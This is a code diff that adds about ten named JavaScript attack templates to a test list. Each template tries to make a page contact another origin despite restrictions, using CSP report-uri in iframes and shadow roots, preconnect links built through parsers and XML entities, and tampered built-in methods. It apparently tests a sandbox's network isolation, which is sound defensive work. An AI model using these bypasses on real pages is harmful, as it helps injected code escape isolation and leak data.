@@ -208,6 +208,51 @@ const requestTemplates: readonly Attack[] = [
       `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${other}/leak-report">')`,
   },
   {
+    name: 'reporting-in-a-frame',
+    code: ({ other }) =>
+      `const f = document.createElement('iframe'); f.srcdoc = '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri ${other}/leak-frame-report"><img src="${other}/leak-frame-report-img"><link rel=preconnect href="${other}">'; document.body.append(f)`,
+  },
+  {
+    name: 'reporting-in-a-frame-of-markup',
+    code: ({ other }) =>
+      `document.body.insertAdjacentHTML('beforeend', '<div><iframe srcdoc="<meta http-equiv=Content-Security-Policy content=&quot;img-src none; report-uri ${other}/leak-markup-report&quot;><img src=x>"></iframe></div>')`,
+  },
+  {
+    name: 'reporting-in-a-shadow-frame',
+    code: ({ other }) =>
+      `const host = document.createElement('p'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); root.innerHTML = '<iframe srcdoc="<meta http-equiv=Content-Security-Policy content=\\'img-src none; report-uri ${other}/leak-shadow-report\\'><img src=x>"></iframe><link rel=preconnect href="${other}">'; if (host.setHTMLUnsafe) host.setHTMLUnsafe('<template shadowrootmode=open><iframe srcdoc="<img src=${other}/leak-declared>"></iframe></template>')`,
+  },
+  {
+    name: 'reporting-again',
+    code: ({ other }) =>
+      `const m = document.createElementNS('http://www.w3.org/1999/xhtml', 'meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "img-src 'none'; report-uri ${other}/leak-report-meta"; document.head.append(m); new Image().src = '${other}/leak-report-meta-img'`,
+  },
+  {
+    name: 'link-parsed',
+    code: ({ other }) =>
+      `for (const type of ['text/html', 'application/xhtml+xml']) { const d = new DOMParser().parseFromString('<html xmlns="http://www.w3.org/1999/xhtml"><head><link rel="preconnect" href="${other}"/></head><body/></html>', type); for (const l of [...d.querySelectorAll('link')]) document.head.append(l) } const t = document.createElement('template'); t.innerHTML = '<LINK rel=preconnect href="${other}">'; document.head.append(t.content); document.head.append(document.createRange().createContextualFragment('<link\\nrel=preconnect href="${other}">'))`,
+  },
+  {
+    name: 'link-by-entity',
+    code: ({ other }) =>
+      `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;h:link xmlns:h=\\'http://www.w3.org/1999/xhtml\\' rel=\\'preconnect\\' href=\\'${other}\\'/>">]><x>&e;</x>', 'application/xml'); for (const l of [...d.querySelectorAll('link')]) document.head.append(l)`,
+  },
+  {
+    name: 'link-by-another-reader',
+    code: ({ other }) =>
+      `let turn = 0; const l = document.createElement({ toString: () => turn++ === 0 ? 'p' : 'link' }); l.rel = 'preconnect'; l.href = '${other}'; document.head.append(l); try { const d = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link'); const m = d.documentElement; m.rel = 'preconnect'; m.href = '${other}'; document.head.append(m) } catch {}`,
+  },
+  {
+    name: 'link-by-changed-methods',
+    code: ({ other }) =>
+      `const { exec } = RegExp.prototype, { replace } = String.prototype; RegExp.prototype.exec = () => null; String.prototype.replace = function () { return String(this) }; document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href="${other}">'); const l = document.createElement('link'); RegExp.prototype.exec = exec; String.prototype.replace = replace; l.setAttribute('rel', 'preconnect'); l.setAttribute('href', '${other}'); document.head.append(l)`,
+  },
+  {
+    name: 'link-by-class',
+    code: ({ other }) =>
+      `class L extends HTMLLinkElement {} customElements.define('l-l', L, { extends: 'link' }); const l = new L(); l.rel = 'preconnect'; l.href = '${other}'; document.head.append(l)`,
+  },
+  {
     name: 'base',
     code: ({ other }) =>
       `document.head.insertAdjacentHTML('beforeend', '<base href="${other}/">'); const i = new Image(); i.src = 'leak-base'`,
